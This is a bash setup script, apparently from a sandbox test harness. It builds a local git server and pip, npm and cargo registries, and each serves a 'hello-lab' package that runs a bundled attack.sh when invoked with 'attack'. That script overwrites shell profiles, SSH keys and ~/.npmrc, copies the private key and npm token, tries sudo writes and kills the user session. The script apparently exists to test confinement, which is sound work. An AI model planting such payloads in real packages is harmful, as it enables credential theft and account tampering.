# shellcheck shell=bash
# What the other machine serves to a developer: a git server, and registries of
# Python's, Node's and Rust's packages, one small package each. Static files, all but git.
# Each says hello, and attacks the user that installed it when it is asked to.

WEB=/srv/remote/web

# attack.sh NAME: reaches for what the user trusts, and tells that it was here.
attack() {
	cat >"$1/attack.sh" <<-'ATTACK'
		for file in ~/.bashrc ~/.profile ~/.ssh/authorized_keys ~/.ssh/id_ed25519 ~/.npmrc ~/src/x.c; do
			echo evil >>"$file"
		done
		cat ~/.ssh/id_ed25519 ~/.npmrc >~/src/stolen-by-$1
		echo evil | sudo -n tee -a /etc/motd
		kill -KILL "$(pgrep -u alice -f 'systemd --user')"
		touch ~/src/attacked-by-$1
	ATTACK
}

git_server() {
	local repo=/srv/remote/git/hello.git work=/srv/remote/work
	# sshd takes a password of `!` for a locked account
	useradd --system --home-dir /srv/remote/git --shell /usr/bin/git-shell --password '*' git
	usermod --password '*' alice
	git init -q --bare "$repo"
	git init -q "$work"
	attack "$work"
	printf 'int main(void) { return 0; }\n' >"$work/main.c"
	printf 'hello: main.c\n\tcc -o $@ $<\nattack:\n\tsh attack.sh git\n' >"$work/Makefile"
	git -C "$work" add .
	git -C "$work" -c user.name=r -c user.email=r@remote commit -qm first
	git -C "$work" push -q "$repo" HEAD:refs/heads/main
	git -C "$repo" symbolic-ref HEAD refs/heads/main
	git -C "$repo" update-server-info
	mkdir -p "$WEB" /srv/remote/git/.ssh
	cp -r "$repo" "$WEB/hello.git"
	cp /home/alice/.ssh/id_ed25519.pub /srv/remote/git/.ssh/authorized_keys
	chown -R git:git /srv/remote/git
	ssh-keygen -q -t ed25519 -N '' -f /srv/remote/host_key
	cat >/srv/remote/sshd_config <<-CONFIG
		ListenAddress $REMOTE
		HostKey /srv/remote/host_key
		PidFile none
		PasswordAuthentication no
		UsePAM no
		Subsystem sftp internal-sftp
	CONFIG
}

# A wheel is a zip file (PEP 427), an index a page of links (PEP 503).
python_registry() {
	mkdir -p "$WEB/simple/hello-lab" /srv/remote/wheel
	attack /srv/remote/wheel
	python3 - "$WEB/simple/hello-lab" <<-'PYTHON'
		import sys, zipfile
		name = "hello_lab-1.0-py3-none-any.whl"
		module = """import os, sys
		print('hello from pip')
		if 'attack' in sys.argv:
		    os.system(f'sh {os.path.dirname(__file__)}/hello_lab.sh pip')
		"""
		with zipfile.ZipFile(f"{sys.argv[1]}/{name}", "w") as wheel:
		    info = "hello_lab-1.0.dist-info"
		    wheel.writestr("hello_lab.py", module)
		    wheel.write("/srv/remote/wheel/attack.sh", "hello_lab.sh")
		    wheel.writestr(f"{info}/METADATA", "Metadata-Version: 2.1\nName: hello-lab\nVersion: 1.0\n")
		    wheel.writestr(f"{info}/WHEEL", "Wheel-Version: 1.0\nGenerator: lab\nRoot-Is-Purelib: true\nTag: py3-none-any\n")
		    wheel.writestr(f"{info}/RECORD", f"hello_lab.py,,\nhello_lab.sh,,\n{info}/METADATA,,\n{info}/WHEEL,,\n{info}/RECORD,,\n")
		open(f"{sys.argv[1]}/index.html", "w").write(f'<a href="{name}">{name}</a>\n')
	PYTHON
}

# A package's document (registry.md of npm's), with its install script.
node_registry() {
	local dir=/srv/remote/npm/package
	mkdir -p "$dir" "$WEB/npm"
	attack "$dir"
	cat >"$dir/package.json" <<-'PACKAGE'
		{ "name": "hello-lab", "version": "1.0.0", "main": "index.js",
		  "scripts": { "install": "node -e \"require('fs').writeFileSync('installed', 'yes')\"" } }
	PACKAGE
	cat >"$dir/index.js" <<-'INDEX'
		console.log('hello from npm')
		if (process.argv.includes('attack'))
			require('child_process').spawnSync('sh', [__dirname + '/attack.sh', 'npm'])
	INDEX
	tar -C "$dir/.." -czf "$WEB/npm/hello-lab-1.0.0.tgz" package
	cat >"$WEB/npm/hello-lab" <<-DOCUMENT
		{ "name": "hello-lab", "dist-tags": { "latest": "1.0.0" }, "versions": { "1.0.0": {
		  "name": "hello-lab", "version": "1.0.0", "hasInstallScript": true,
		  "dist": { "tarball": "http://$REMOTE:8000/npm/hello-lab-1.0.0.tgz",
		    "shasum": "$(sha1sum <"$WEB/npm/hello-lab-1.0.0.tgz" | cut -d' ' -f1)" } } } }
	DOCUMENT
}

# A sparse index (The Cargo Book, Registry Index).
rust_registry() {
	local dir=/srv/remote/crate/hello-lab-1.0.0 sum
	mkdir -p "$dir/src" "$WEB/crates/he/ll" "$WEB/crates/dl"
	attack "$dir"
	printf '[package]\nname = "hello-lab"\nversion = "1.0.0"\nedition = "2021"\nbuild = "build.rs"\n' >"$dir/Cargo.toml"
	echo 'fn main() { println!("cargo:rerun-if-changed=build.rs"); }' >"$dir/build.rs"
	cat >"$dir/src/lib.rs" <<-'LIB'
		pub fn hello() -> &'static str {
		    if std::env::args().any(|arg| arg == "attack") {
		        let script = include_str!("../attack.sh");
		        let _ = std::process::Command::new("sh").args(["-c", script, "sh", "cargo"]).status();
		    }
		    "hello from cargo"
		}
	LIB
	tar -C "$dir/.." -czf "$WEB/crates/dl/hello-lab-1.0.0.crate" hello-lab-1.0.0
	sum=$(sha256sum <"$WEB/crates/dl/hello-lab-1.0.0.crate" | cut -d' ' -f1)
	echo "{\"dl\":\"http://$REMOTE:8000/crates/dl/{crate}-{version}.crate\"}" >"$WEB/crates/config.json"
	echo "{\"name\":\"hello-lab\",\"vers\":\"1.0.0\",\"deps\":[],\"cksum\":\"$sum\",\"features\":{},\"yanked\":false}" >"$WEB/crates/he/ll/hello-lab"
}
